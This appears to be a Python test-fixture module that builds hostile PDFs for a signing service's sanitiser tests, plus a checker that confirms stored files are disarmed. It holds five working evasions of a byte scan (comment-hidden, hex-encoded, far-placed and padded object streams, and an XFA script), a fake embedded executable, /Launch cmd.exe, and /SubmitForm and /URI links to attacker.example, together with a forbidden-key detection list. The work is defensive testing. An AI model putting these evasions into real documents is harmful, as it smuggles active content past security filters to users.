"""Hostile signed forms, built here (issue 22, finding 6), and an independent check that a
stored file is disarmed.

The five files that went through the old byte scan of ``consent/core/files.py`` (each
carries ``app.alert`` JavaScript or an XFA script):

* ``comment_stream`` — the action sits between a ``%stream`` and a ``%endstream``
  comment: the scan took it for stream data and skipped it;
* ``hex_object_stream`` — the action is inside an object stream (``/ObjStm``) encoded
  with ``/ASCIIHexDecode``: the scan only inflated Flate;
* ``far_object_stream`` — ``/ObjStm`` more than 1,024 bytes before its ``stream`` keyword
  (a long string in between): the scan did not take it for an object stream;
* ``xfa_script`` — an XFA form (``/AcroForm /XFA``) with a ``<script>``: no ``/JS`` name;
* ``padded_object_stream`` — the action after 64 MB of spaces in a Flate object stream:
  the scan stopped inflating at 64 MB.

And more active content a disarmed file must not keep (``embedded_file``,
``link_actions``: a page ``/AA``, ``/URI``, ``/Launch`` and ``/SubmitForm`` links, a
``/Names`` JavaScript tree). Every file has a page whose content stream draws ``SIGNED BY
WORKER`` (and ``signature_annotation`` an ink-like annotation with an appearance stream),
so that a test can also show that what the page shows survives.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf

PAGE_TEXT = b"SIGNED BY WORKER"
SCRIPT = b"app.alert(1)"
CONTENT = b"BT /F1 24 Tf 72 720 Td (" + PAGE_TEXT + b") Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def raw_pdf(
    objects: dict[int, bytes],
    *,
    compressed: dict[int, tuple[int, int]] | None = None,
    root: int = 1,
) -> bytes:
    """A PDF 1.7 of ``objects`` (number → body) with a cross-reference stream, which can
    point into object streams (``compressed``: number → (object stream, index))."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    compressed = compressed or {}
    size = max([*objects, *compressed]) + 2
    xref = size - 1
    offsets[xref] = len(out)
    rows = bytearray()
    for number in range(size):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in compressed:
            stream, index = compressed[number]
            rows += b"\x02" + stream.to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += b"\x00\x00\x00\x00\x00\xff\xff"
    out += b"%d 0 obj\n" % xref
    out += _stream(bytes(rows), b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R " % (size, root))
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref]
    return bytes(out)


def _page_objects(catalog_extra: bytes = b"") -> dict[int, bytes]:
    """1 catalog, 2 page tree, 3 page, 5 its content, 6 its font (4 is left for the action)."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 6 0 R >> >> /Contents 5 0 R >>"
        ),
        5: _stream(CONTENT),
        6: FONT,
    }


def _object_stream(
    members: dict[int, bytes],
    *,
    encode: Callable[[bytes], bytes],
    filter_name: bytes,
    padding: int = 0,
    dictionary_padding: int = 0,
) -> bytes:
    header = bytearray()
    body = bytearray(b" " * padding)
    for number, obj in members.items():
        header += b"%d %d " % (number, len(body))
        body += obj + b" "
    data = bytes(header) + bytes(body)
    encoded = encode(data)
    pad = b"/Padding (%s) " % (b"x" * dictionary_padding) if dictionary_padding else b""
    extra = b"/Type /ObjStm /N %d /First %d %s/Filter %s " % (
        len(members),
        len(header),
        pad,
        filter_name,
    )
    return _stream(encoded, extra)


def comment_stream() -> bytes:
    objects = _page_objects(b"/OpenAction 4 0 R ")
    objects[4] = b"%stream\n" + JS_ACTION + b"\n%endstream"
    return raw_pdf(objects)


def hex_object_stream() -> bytes:
    objects = _page_objects(b"/OpenAction 4 0 R ")
    objects[7] = _object_stream(
        {4: JS_ACTION},
        encode=lambda data: data.hex().encode() + b">",
        filter_name=b"/ASCIIHexDecode",
    )
    return raw_pdf(objects, compressed={4: (7, 0)})


def far_object_stream() -> bytes:
    objects = _page_objects(b"/OpenAction 4 0 R ")
    objects[7] = _object_stream(
        {4: JS_ACTION}, encode=zlib.compress, filter_name=b"/FlateDecode", dictionary_padding=2000
    )
    return raw_pdf(objects, compressed={4: (7, 0)})


def padded_object_stream(padding: int = 64 * 1024 * 1024 + 1) -> bytes:
    objects = _page_objects(b"/OpenAction 4 0 R ")
    objects[7] = _object_stream(
        {4: JS_ACTION},
        encode=lambda data: zlib.compress(data, 9),
        filter_name=b"/FlateDecode",
        padding=padding,
    )
    return raw_pdf(objects, compressed={4: (7, 0)})


def _with_pikepdf(change: Callable[[pikepdf.Pdf], Any]) -> bytes:
    pdf = pikepdf.open(io.BytesIO(raw_pdf(_page_objects())))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


XFA = (
    b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
    b'<template><subform><event activity="initialize"><script contentType='
    b'"application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'
)


def xfa_script() -> bytes:
    def add(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pdf.make_indirect(
            pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Stream(pdf, XFA))
        )

    return _with_pikepdf(add)


def embedded_file() -> bytes:
    def add(pdf: pikepdf.Pdf) -> None:
        exe = b"MZ\x90\x00 app.alert(1) " + b"\x00" * 64
        pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, exe, filename="a.exe")
        page = pdf.pages[0].obj
        page.Annots = pdf.make_indirect(
            pikepdf.Array(
                [
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.FileAttachment,
                        Rect=[0, 0, 10, 10],
                        FS=pdf.Root.Names.EmbeddedFiles.Names[1],
                    )
                ]
            )
        )

    return _with_pikepdf(add)


def _action(pdf: pikepdf.Pdf, kind: str, **fields: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **fields)


def link_actions() -> bytes:
    def add(pdf: pikepdf.Pdf) -> None:
        js = _action(pdf, "/JavaScript", JS=pikepdf.String("app.alert(1)"))
        page = pdf.pages[0].obj
        page.AA = pikepdf.Dictionary(O=js)
        links = [
            _action(pdf, "/URI", URI=pikepdf.String("https://attacker.example/")),
            _action(pdf, "/Launch", F=pikepdf.String("cmd.exe")),
            _action(pdf, "/SubmitForm", F=pikepdf.String("https://attacker.example/")),
        ]
        page.Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[0, 0, 100, 100],
                    A=action,
                )
                for action in links
            ]
        )
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), js]))
        )
        pdf.Root.OpenAction = js

    return _with_pikepdf(add)


SIGNATURE_TEXT = b"HANKO"


def signature_annotation() -> bytes:
    """A signature added in a viewer: a stamp annotation with an appearance stream."""

    def add(pdf: pikepdf.Pdf) -> None:
        appearance = pikepdf.Stream(pdf, b"BT /F1 12 Tf 2 2 Td (" + SIGNATURE_TEXT + b") Tj ET")
        appearance.Type = pikepdf.Name.XObject
        appearance.Subtype = pikepdf.Name.Form
        appearance.BBox = [0, 0, 100, 20]
        appearance.Resources = pikepdf.Dictionary(Font=pdf.pages[0].Resources.Font)
        pdf.pages[0].obj.Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Stamp,
                    Rect=[300, 100, 400, 120],
                    F=4,  # print
                    AP=pikepdf.Dictionary(N=appearance),
                )
            ]
        )

    return _with_pikepdf(add)


BYPASSES: dict[str, Callable[[], bytes]] = {
    "comment_stream": comment_stream,
    "hex_object_stream": hex_object_stream,
    "far_object_stream": far_object_stream,
    "xfa_script": xfa_script,
    "padded_object_stream": padded_object_stream,
}
MORE: dict[str, Callable[[], bytes]] = {
    "embedded_file": embedded_file,
    "link_actions": link_actions,
}


# --- the check: independent of the service's own code --------------------------------------

FORBIDDEN_KEYS = {
    "/JS",
    "/JavaScript",
    "/OpenAction",
    "/AA",
    "/A",
    "/URI",
    "/Launch",
    "/SubmitForm",
    "/XFA",
    "/AcroForm",
    "/EmbeddedFiles",
    "/EmbeddedFile",
    "/EF",
    "/Names",
    "/Annots",
}
FORBIDDEN_TYPES = {"/Action", "/Filespec", "/EmbeddedFile", "/Annot"}
ACTIONS = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}


def active_content(data: bytes) -> list[str]:
    """Everything active left in a PDF's bytes (empty: disarmed), found by parsing it with
    pikepdf and walking every object of the file, and in every decoded stream."""
    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack: list[Any] = [pdf.trailer, *pdf.objects]
        seen: set[tuple[int, int]] = set()
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Object) and obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                found += [f"key {k}" for k in obj.keys() if k in FORBIDDEN_KEYS]  # noqa: SIM118
                if str(obj.get("/Type", "")) in FORBIDDEN_TYPES:
                    found.append(f"type {obj.get('/Type')}")
                if str(obj.get("/S", "")) in ACTIONS:
                    found.append(f"action {obj.get('/S')}")
                if isinstance(obj, pikepdf.Stream):
                    decoded = obj.read_bytes()
                    if SCRIPT in decoded or b"<script" in decoded:
                        found.append("script in a stream")
                stack.extend(obj[k] for k in obj.keys())  # noqa: SIM118
            elif isinstance(obj, pikepdf.Array):
                stack.extend(obj)
        if pdf.attachments:
            found.append("attachments")
    if SCRIPT in data:
        found.append("script in the file's bytes")
    return found


def page_text(data: bytes) -> bytes:
    """Every content stream of every page, and of the forms they draw, decoded."""
    shown = bytearray()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for page in pdf.pages:
            shown += (
                page.obj.Contents.read_bytes()
                if isinstance(page.obj.get("/Contents"), pikepdf.Stream)
                else b"".join(c.read_bytes() for c in page.obj.get("/Contents", []))
            )
            for xobject in page.obj.get("/Resources", {}).get("/XObject", {}).values():
                if xobject.get("/Subtype") == pikepdf.Name.Form:
                    shown += xobject.read_bytes()
    return bytes(shown)
